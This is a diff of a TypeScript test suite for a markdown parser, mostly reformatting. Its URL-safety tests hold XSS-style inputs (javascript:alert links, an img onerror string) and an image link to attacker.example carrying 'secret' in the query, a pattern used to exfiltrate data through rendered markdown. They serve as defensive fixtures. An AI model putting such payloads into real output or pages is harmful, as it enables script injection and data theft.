@@ -4,9 +4,14 @@ import { parseBlocks, parseInline, safeUrl, settledLength } from './parse.js';
 
 describe('markdown parser', () => {
   it('parses headings, paragraphs, lists, quotes, code, tables and rules', () => {
-    const blocks = parseBlocks('# Title\n\nSome *em* and **strong** and `code`.\n\n- one\n- two\n  - nested\n\n1. first\n2. second\n\n> quoted\n\n```ts\nconst a = 1;\n```\n\n| A | B |\n|:--|--:|\n| 1 | 2 |\n\n---');
+    const blocks = parseBlocks(
+      '# Title\n\nSome *em* and **strong** and `code`.\n\n- one\n- two\n  - nested\n\n1. first\n2. second\n\n> quoted\n\n```ts\nconst a = 1;\n```\n\n| A | B |\n|:--|--:|\n| 1 | 2 |\n\n---',
+    );
     expect(blocks.map((b) => b.t)).to.deep.equal(['h', 'p', 'list', 'list', 'quote', 'code', 'table', 'hr']);
-    expect(blocks[1]).to.deep.equal({ t: 'p', inline: ['Some ', { t: 'em', children: ['em'] }, ' and ', { t: 'strong', children: ['strong'] }, ' and ', { t: 'code', text: 'code' }, '.'] });
+    expect(blocks[1]).to.deep.equal({
+      t: 'p',
+      inline: ['Some ', { t: 'em', children: ['em'] }, ' and ', { t: 'strong', children: ['strong'] }, ' and ', { t: 'code', text: 'code' }, '.'],
+    });
     const list = blocks[2] as { items: { t: string }[][] };
     expect(list.items).to.have.length(2);
     expect(list.items[1]!.map((b) => b.t)).to.deep.equal(['p', 'list']);
@@ -25,11 +30,17 @@ describe('markdown parser', () => {
     expect(parseInline('[x](javascript:alert%281%29)')).to.deep.equal([{ t: 'link', href: null, children: ['x'] }]);
     expect(parseInline('[x](javascript:alert(1))')).to.deep.equal(['[x](javascript:alert(1))']);
     expect(parseInline('<img src=x onerror=alert(1)>')).to.deep.equal(['<img src=x onerror=alert(1)>']);
-    expect(parseInline('![secret](https://attacker.example/?q=secret)')).to.deep.equal([{ t: 'image', alt: 'secret', href: 'https://attacker.example/?q=secret' }]);
+    expect(parseInline('![secret](https://attacker.example/?q=secret)')).to.deep.equal([
+      { t: 'image', alt: 'secret', href: 'https://attacker.example/?q=secret' },
+    ]);
   });
 
   it('links bare URLs without trailing punctuation, and keeps snake_case words', () => {
-    expect(parseInline('see https://example.com/x.')).to.deep.equal(['see ', { t: 'link', href: 'https://example.com/x', children: ['https://example.com/x'] }, '.']);
+    expect(parseInline('see https://example.com/x.')).to.deep.equal([
+      'see ',
+      { t: 'link', href: 'https://example.com/x', children: ['https://example.com/x'] },
+      '.',
+    ]);
     expect(parseInline('a snake_case_name')).to.deep.equal(['a snake_case_name']);
     expect(parseInline('\\*not em\\*')).to.deep.equal(['*not em*']);
   });
@@ -40,7 +51,23 @@ describe('markdown parser', () => {
     expect(performance.now() - start).to.be.below(2_000);
   });
 
-  const line = fc.constantFrom('# Heading', 'Some *text* here', '- item', '  - nested', '1. first', '> quote', '```', 'code line', '| a | b |', '|---|---|', '---', '', '', 'plain', '    indented');
+  const line = fc.constantFrom(
+    '# Heading',
+    'Some *text* here',
+    '- item',
+    '  - nested',
+    '1. first',
+    '> quote',
+    '```',
+    'code line',
+    '| a | b |',
+    '|---|---|',
+    '---',
+    '',
+    '',
+    'plain',
+    '    indented',
+  );
   it('settled prefixes parse to the same blocks as the whole text', () => {
     fc.assert(
       fc.property(fc.array(line, { maxLength: 30 }), fc.nat(), (lines, cut) => {
